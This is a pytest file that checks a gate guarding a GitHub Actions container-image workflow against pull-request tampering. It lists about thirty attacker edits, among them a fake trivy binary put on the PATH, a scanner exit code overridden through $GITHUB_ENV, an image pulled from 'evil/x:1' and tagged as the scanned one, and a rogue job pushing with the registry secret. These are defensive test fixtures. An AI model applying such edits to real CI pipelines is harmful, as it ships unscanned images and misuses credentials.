"""The images workflow never pushes an image the scan did not pass, and a pull request cannot make it.

Each attacker edit below is one a pull request could make to ``.github/workflows/images.yml``; each must give the
problem that names it (``tests/support/image_gate.py``), and the workflow on main must give none.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
import yaml

from tests.github.test_workflows import WORKFLOWS, load, schema_check
from tests.support.image_gate import (
    ALLOW,
    BUILD,
    CHECKOUT,
    FETCH,
    HANDOFF,
    INSTALL,
    LIBS,
    LOAD,
    LOGIN,
    PUSH,
    SCAN,
    SCANNER,
    SETUP_PYTHON,
    SPARSE,
    TARGETS,
    TOOLS,
    image_gate_problems,
)

TEXT = (WORKFLOWS / "images.yml").read_text()
NOT_LISTED = "is not one of the gate's; the job runs its listed steps only"


def rewritten(job: str, name: str) -> str:
    return f"{job}: step {name!r} is not the gate's (its action, inputs or script changed)"


def parse(text: str) -> dict[str, Any]:
    document = yaml.safe_load(text)
    document["on"] = document.pop(True, document.get("on"))
    return document


def edited(old: str, new: str, count: int = 1) -> dict[str, Any]:
    """images.yml with a text edit, as a pull request would make it (the edit must apply exactly ``count`` times)."""
    assert TEXT.count(old) == count, old
    return parse(TEXT.replace(old, new))


def steps(workflow: dict[str, Any], job: str) -> list[dict[str, Any]]:
    return workflow["jobs"][job]["steps"]


def step(workflow: dict[str, Any], job: str, name: str) -> dict[str, Any]:
    [found] = [s for s in steps(workflow, job) if s.get("name") == name]
    return found


def changed(change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    workflow = copy.deepcopy(load("images.yml"))
    change(workflow)
    return workflow


def inserted(job: str, before: str, new: dict[str, Any]) -> dict[str, Any]:
    """images.yml with the step ``new`` added to ``job`` just before its step ``before``."""

    def change(workflow: dict[str, Any]) -> None:
        job_steps = steps(workflow, job)
        job_steps.insert(job_steps.index(step(workflow, job, before)), new)

    return changed(change)


def moved(name: str, source: str, target: str, before: str) -> dict[str, Any]:
    """images.yml with the step ``name`` of ``source`` moved into ``target``, just before its step ``before``."""

    def change(workflow: dict[str, Any]) -> None:
        item = step(workflow, source, name)
        steps(workflow, source).remove(item)
        target_steps = steps(workflow, target)
        target_steps.insert(target_steps.index(step(workflow, target, before)), item)

    return changed(change)


def test_the_workflow_on_main_pushes_only_what_the_scan_passed() -> None:
    assert image_gate_problems(load("images.yml")) == []


def test_the_scan_is_trivy_pinned_from_aquas_repository_and_refuses_critical_and_fixable_high() -> None:
    workflow = load("images.yml")
    assert step(workflow, "scan", INSTALL)["env"] == SCANNER
    scan = step(workflow, "scan", SCAN)["run"]
    assert scan.count("--exit-code 1") == 2 and "--exit-code 0" not in scan
    assert scan.count('env -i HOME="$RUNNER_TEMP/scan" PATH=/usr/bin:/bin /usr/bin/trivy image --scanners vuln') == 2
    assert "--no-progress --severity CRITICAL \\\n" in scan  # fixed or not: a CRITICAL never ships
    assert "--no-progress --severity HIGH --ignore-unfixed \\\n" in scan  # a HIGH with a fix never ships
    assert scan.index("dpkg -V trivy\n") < scan.index("/usr/bin/trivy")


def test_the_scan_job_checks_out_only_code_owned_files_and_holds_no_credential() -> None:
    scan = load("images.yml")["jobs"]["scan"]
    [checkout] = [s for s in scan["steps"] if s.get("uses", "").startswith("actions/checkout@")]
    assert checkout["with"]["sparse-checkout-cone-mode"] is False  # cone mode would add every file of the root
    owned = "/.github/scan-requirements.txt /images/scan-allowlist.yaml /images/*/Dockerfile /tools/__init__.py"
    assert checkout["with"]["sparse-checkout"].split() == [*owned.split(), "/tools/scan_allowlist.py"]
    assert "environment" not in scan and "permissions" not in scan and "secrets." not in yaml.safe_dump(scan)


FAKE_TRIVY = (
    'mkdir -p "$RUNNER_TEMP/bin" && printf \'#!/bin/sh\\nexit 0\\n\' > "$RUNNER_TEMP/bin/trivy"\n'
    'chmod +x "$RUNNER_TEMP/bin/trivy" && echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"\n'
)
SNEAK = """
runs-on: ubuntu-24.04
environment: images
steps:
  - {name: push, env: {P: "${{ secrets.ACR_PASSWORD }}"}, run: "crane auth login r -p $P && crane push img.tar r/x:y"}
"""
ATTACKS: list[tuple[str, Callable[[], dict[str, Any]], list[str]]] = [
    (
        "the scan step removed",
        lambda: changed(lambda w: steps(w, "scan").remove(step(w, "scan", SCAN))),
        [f"scan: step {SCAN!r} is missing"],
    ),
    (
        "continue-on-error on the scan",
        lambda: changed(lambda w: step(w, "scan", SCAN).update({"continue-on-error": True})),
        [
            f"scan: step {SCAN!r} sets 'continue-on-error'; the steps of the scan job run as written",
            rewritten("scan", SCAN),
        ],
    ),
    (
        "the scan made skippable",
        lambda: changed(lambda w: step(w, "scan", SCAN).update({"if": "github.event_name == 'push'"})),
        [
            f"scan: step {SCAN!r} sets 'if'; the steps of the scan job run as written",
            rewritten("scan", SCAN),
        ],
    ),
    (
        "the push told to run after a failed scan",
        lambda: changed(lambda w: step(w, "push", PUSH).update({"if": "always()"})),
        [
            f"push: step {PUSH!r} sets 'if'; the steps of the push job run as written",
            "a status function (always/failure/cancelled) lets something run after a failed scan",
        ],
    ),
    (
        "the push job told to run whatever the scan did",
        lambda: changed(lambda w: w["jobs"]["push"].update({"if": "always()"})),
        [
            "push: the job sets 'if'; it runs only when the jobs it needs passed",
            "a status function (always/failure/cancelled) lets something run after a failed scan",
        ],
    ),
    (
        "the push job no longer needs the scan job",
        lambda: edited("    needs: [discover, scan]\n", "    needs: [discover, build]\n"),
        ["push: the job does not need 'scan'; it could run without it or before it ends"],
    ),
    (
        "the scan job no longer needs the build (it would scan whatever artifact is there)",
        lambda: edited("    needs: [discover, build]\n", "    needs: [discover]\n"),
        ["scan: the job does not need 'build'; it could run without it or before it ends"],
    ),
    (
        "--exit-code 0 on the CRITICAL scan",
        lambda: edited(
            "--exit-code 1 --no-progress --severity CRITICAL", "--exit-code 0 --no-progress --severity CRITICAL"
        ),
        [rewritten("scan", SCAN)],
    ),
    (
        "the severity filter weakened",
        lambda: edited("--severity CRITICAL", "--severity CRITICAL --ignore-unfixed"),
        [rewritten("scan", SCAN)],
    ),
    (
        "the HIGH scan dropped",
        lambda: edited(
            '          env -i HOME="$RUNNER_TEMP/scan" PATH=/usr/bin:/bin /usr/bin/trivy image --scanners vuln \\\n'
            "            --ignorefile trivyignore --exit-code 1 --no-progress --severity HIGH --ignore-unfixed \\\n"
            '            --input "$RUNNER_TEMP/image/image.tar"\n',
            "",
        ),
        [rewritten("scan", SCAN)],
    ),
    (
        "trivy run by name, so the first `trivy` on the PATH decides",
        lambda: edited("/usr/bin/trivy image", "trivy image", count=2),
        [
            rewritten("scan", SCAN),
            f"scan: step {SCAN!r} runs `trivy` by name; only /usr/bin/trivy, checked, is the scanner",
            "scan: the scan runs /usr/bin/trivy without first checking it with `dpkg -V trivy`",
            "scan: the scan does not run /usr/bin/trivy, under `env -i`, for each severity",
        ],
    ),
    (
        "the scanner's package check dropped",
        lambda: edited("          dpkg -V trivy\n", ""),
        [
            rewritten("scan", SCAN),
            "scan: the scan runs /usr/bin/trivy without first checking it with `dpkg -V trivy`",
        ],
    ),
    (
        "the scanner run in the job's environment (TRIVY_* from $GITHUB_ENV would reach it)",
        lambda: edited('env -i HOME="$RUNNER_TEMP/scan" PATH=/usr/bin:/bin /usr/bin/trivy', "/usr/bin/trivy", count=2),
        [
            rewritten("scan", SCAN),
            "scan: the scan does not run /usr/bin/trivy, under `env -i`, for each severity",
        ],
    ),
    (
        "a fake trivy put first on the PATH of the scan job",
        lambda: inserted("scan", SCAN, {"name": "Cache", "run": FAKE_TRIVY}),
        [
            f"scan: step 'Cache' {NOT_LISTED}",
            "scan: step 'Cache' writes $GITHUB_PATH or $GITHUB_ENV; later steps would run changed",
        ],
    ),
    (
        "scanner settings slipped in through $GITHUB_ENV in the build job",
        lambda: inserted("build", HANDOFF, {"name": "Env", "run": 'echo "TRIVY_EXIT_CODE=0" >> "$GITHUB_ENV"'}),
        [
            f"build: step 'Env' {NOT_LISTED}",
            "build: step 'Env' writes $GITHUB_PATH or $GITHUB_ENV; later steps would run changed",
            "TRIVY_ variables appear; the scanner takes its settings from the scan's flags only",
        ],
    ),
    (
        "repository Python run in the scan job before the scan (tools/stack_file.py could drop a fake trivy)",
        lambda: inserted("scan", INSTALL, {"name": "Targets", "run": 'python -m tools.set_image --targets "$IMAGE"'}),
        [
            f"scan: step 'Targets' {NOT_LISTED}",
            "scan: step 'Targets' runs repository code on a runner before the scan ends",
        ],
    ),
    (
        "the repository's requirements installed in the scan job",
        lambda: inserted("scan", ALLOW, {"name": "Deps", "run": "python -m pip install -r requirements.txt"}),
        [f"scan: step 'Deps' {NOT_LISTED}", "scan: step 'Deps' runs repository code on a runner before the scan ends"],
    ),
    (
        "the allow-list tool run from the whole repository's requirements instead of the pinned hashes",
        lambda: edited("--requirement allow/.github/scan-requirements.txt", "--requirement allow/requirements.txt"),
        [rewritten("scan", LIBS)],
    ),
    (
        "the whole repository checked out where the scan runs",
        lambda: edited("          sparse-checkout-cone-mode: false\n", "          sparse-checkout-cone-mode: true\n"),
        [rewritten("scan", SPARSE)],
    ),
    (
        "the plan wrapper run in the build job",
        lambda: inserted("build", BUILD, {"name": "Plan", "run": "./plan --stack dev"}),
        [
            f"build: step 'Plan' {NOT_LISTED}",
            "build: step 'Plan' runs repository code on a runner before the scan ends",
        ],
    ),
    (
        "make run in the scan job",
        lambda: inserted("scan", SCAN, {"name": "Prepare", "run": "make setup"}),
        [
            f"scan: step 'Prepare' {NOT_LISTED}",
            "scan: step 'Prepare' runs repository code on a runner before the scan ends",
        ],
    ),
    (
        "the login moved into the scan job (the credential on the runner while the scanner runs)",
        lambda: moved(LOGIN, "push", "scan", before=INSTALL),
        [
            f"scan: step {LOGIN!r} {NOT_LISTED}",
            f"push: step {LOGIN!r} is missing",
            f"scan: step {LOGIN!r} reads the push credential; only {LOGIN!r} may",
            f"scan: step {LOGIN!r} can push an image (docker login)",
        ],
    ),
    (
        "the push step moved into the scan job, before the scan",
        lambda: moved(PUSH, "push", "scan", before=SCAN),
        [
            f"scan: step {PUSH!r} {NOT_LISTED}",
            f"scan: step {PUSH!r} runs repository code on a runner before the scan ends",
            f"push: step {PUSH!r} is missing",
            f"scan: step {PUSH!r} can push an image (docker push)",
        ],
    ),
    (
        "the push step moved before the load (pushing what is in the docker cache)",
        lambda: moved(PUSH, "push", "push", before=LOAD),
        [f"push: step {PUSH!r} runs before {name!r}" for name in (LOAD, CHECKOUT, SETUP_PYTHON, TOOLS, TARGETS, LOGIN)],
    ),
    (
        "the allow-list step removed (no expiry check; the scan reads no ignore file)",
        lambda: changed(lambda w: steps(w, "scan").remove(step(w, "scan", ALLOW))),
        [f"scan: step {ALLOW!r} is missing"],
    ),
    (
        "the exit code overridden through the environment",
        lambda: edited("env:\n  PYTHON_VERSION:", 'env:\n  TRIVY_EXIT_CODE: "0"\n  PYTHON_VERSION:'),
        ["TRIVY_ variables appear; the scanner takes its settings from the scan's flags only"],
    ),
    (
        "a shell that ignores errors",
        lambda: changed(lambda w: w.update({"defaults": {"run": {"shell": "bash {0}"}}})),
        ["'defaults' is set; a failed scan must fail the run"],
    ),
    (
        "another scanner version or an unverified download",
        lambda: edited("SCANNER_VERSION: 0.71.2", "SCANNER_VERSION: 0.69.4"),
        ["scan: the scanner is not the pinned Trivy, verified by key and checksum"],
    ),
    (
        "the check that the loaded archive is the scanned one removed",
        lambda: edited(
            '          if ! sha256sum --check --strict "$RUNNER_TEMP/scanned/scanned.sha256"; then\n',
            "          if false; then\n",
        ),
        [rewritten("push", LOAD)],
    ),
    (
        "the push job loading another artifact than the scanned one",
        lambda: changed(lambda w: step(w, "push", FETCH)["with"].update({"name": "image-other"})),
        [rewritten("push", FETCH)],
    ),
    (
        "the scanned artifact replaced after the scan",
        lambda: changed(lambda w: step(w, "build", HANDOFF)["with"].update({"overwrite": True})),
        [
            rewritten("build", HANDOFF),
            f"build: step {HANDOFF!r} overwrites an artifact; what the scan passed must stay as it was",
        ],
    ),
    (
        "a rebuild after the scan",
        lambda: inserted(
            "push", LOGIN, {"name": "Refresh", "run": 'docker build --tag "local/$IMAGE:$GITHUB_SHA" "images/$IMAGE"'}
        ),
        [f"push: step 'Refresh' {NOT_LISTED}", "push: step 'Refresh' builds an image beside the scanned one"],
    ),
    (
        "another image tagged in after the scan",
        lambda: inserted(
            "push",
            LOGIN,
            {"name": "Warm up", "run": 'docker pull evil/x:1 && docker tag evil/x:1 "local/$IMAGE:$GITHUB_SHA"'},
        ),
        [
            f"push: step 'Warm up' {NOT_LISTED}",
            "push: step 'Warm up' brings in an image other than the archive the scan passed",
        ],
    ),
    (
        "a second job that pushes with the credential",
        lambda: changed(lambda w: w["jobs"].update({"sneak": yaml.safe_load(SNEAK)})),
        [
            "sneak: step 'push' reads the push credential; only 'Log in to the registries' may",
            "sneak: step 'push' can push an image (crane)",
        ],
    ),
    (
        "buildx pushing straight from the build",
        lambda: edited("docker build --pull --tag", "docker buildx build --push --pull --tag"),
        [
            rewritten("build", BUILD),
            f"build: step {BUILD!r} can push an image (--push, buildx)",
        ],
    ),
]


@pytest.mark.parametrize(("attack", "make", "problems"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_each_attacker_edit_is_caught_by_name(
    attack: str, make: Callable[[], dict[str, Any]], problems: list[str]
) -> None:
    assert image_gate_problems(make()) == problems, attack


def test_the_edits_are_still_valid_workflows_so_only_the_gate_catches_them(tmp_path: Any) -> None:
    # The schema check passes them all: without this gate, GitHub would run every one of these.
    paths = [tmp_path / f"{index}.yml" for index in range(len(ATTACKS))]
    for path, (_, make, _) in zip(paths, ATTACKS, strict=True):
        path.write_text(yaml.safe_dump(make(), sort_keys=False))
    result = schema_check(*paths)
    assert (result.returncode, result.stdout.strip()) == (0, "ok -- validation done")
